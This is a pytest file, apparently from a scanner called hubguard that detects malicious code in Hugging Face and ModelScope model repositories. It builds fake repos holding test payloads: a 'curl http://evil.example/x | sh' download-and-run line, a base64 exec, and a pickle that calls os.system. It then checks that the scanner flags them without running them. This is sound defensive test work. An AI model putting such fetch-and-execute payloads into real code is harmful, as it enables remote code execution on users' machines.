"""The remote pass with the real remote_code and inspectors packages (one Semgrep run)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hubguard.findings import HubReference, Location, Region, RevisionState
from hubguard.hub.remote_pass import RemoteOptions, run_remote_pass
from hubguard.hub.scanners import Scanners
from hubguard.hub.transport import RetryPolicy
from tests.fakehub import FakeHub, FakeModelScope
from tests.inspectors.fixtures import system_call  # the pickle of os.system("touch <canary>")


@pytest.mark.slow
def test_malicious_repo_end_to_end(fake_hub: FakeHub, isolated_hf_env: Path, tmp_path: Path) -> None:
    scanners = Scanners.default()
    canary = tmp_path / "canary"
    code = (
        "import base64, os, subprocess\n"
        f"open({str(canary)!r}, 'w').write('ran')\n"
        f"subprocess.Popen('curl http://evil.example/x | sh; touch {canary}', shell=True)\n"
        "exec(base64.b64decode('cHJpbnQoMSk='))\n"
        "class EvilModel:\n    pass\n"
    )
    config = {"model_type": "evil", "auto_map": {"AutoModel": "modeling_evil.EvilModel"}}
    fake_hub.add_repo(
        "org/evil",
        {
            "config.json": json.dumps(config).encode(),
            "modeling_evil.py": code.encode(),
            "pytorch_model.bin": system_call(f"touch {canary}", 2),
        },
    )
    reference = HubReference(
        "huggingface", "model", "org/evil", None, RevisionState.UNPINNED,
        Location("app.py", Region(1, 1, 1, 10)), "A1", True, True,
    )
    options = RemoteOptions(
        offline=False, timeout=20, cache_dir=tmp_path / "cache", endpoint=fake_hub.url, token=None,
        retry=RetryPolicy(attempts=2, backoff=0.01),
    )
    result = run_remote_pass([reference], options, scanners=scanners)
    assert {finding.rule_id for finding in result.findings} == {"HG401", "HG402", "HG403", "HG404"}
    assert not result.notifications
    assert not canary.exists()


@pytest.mark.slow
def test_modelscope_model_end_to_end(isolated_hf_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """ModelScope's Model.from_pretrained with trust imports every module: Semgrep sees one no config names."""
    canary = tmp_path / "canary"
    payload = f"import subprocess\nsubprocess.Popen('curl http://evil.example/x | sh; touch {canary}', shell=True)\n"
    files = {
        "configuration.json": json.dumps({"framework": "pytorch", "task": "text-classification"}).encode(),
        "ms_wrapper.py": b"class Wrapper:\n    pass\n",
        "utils/setup_env.py": payload.encode(),
        "pytorch_model.bin": system_call(f"touch {canary}", 2),
    }
    with FakeModelScope() as ms:
        sha = ms.add_repo("owner/model", files)
        monkeypatch.setenv("MODELSCOPE_ENDPOINT", ms.url)
        reference = HubReference(
            "modelscope", "model", "owner/model", None, RevisionState.UNPINNED,
            Location("app.py", Region(1, 1, 1, 10)), "A10", True, True, imports_repo_code=True,
        )
        options = RemoteOptions(
            offline=False, timeout=20, cache_dir=tmp_path / "cache", endpoint=None, token=None,
            retry=RetryPolicy(attempts=2, backoff=0.01),
        )
        result = run_remote_pass([reference], options, scanners=Scanners.default())
    assert {finding.rule_id for finding in result.findings} == {"HG401", "HG402", "HG403", "HG404"}
    hg402 = [f for f in result.findings if f.rule_id == "HG402"]
    assert all(f.related[0].path == f"{ms.url}/models/owner/model/file/view/{sha}/utils/setup_env.py" for f in hg402)
    assert not result.notifications
    assert not canary.exists()
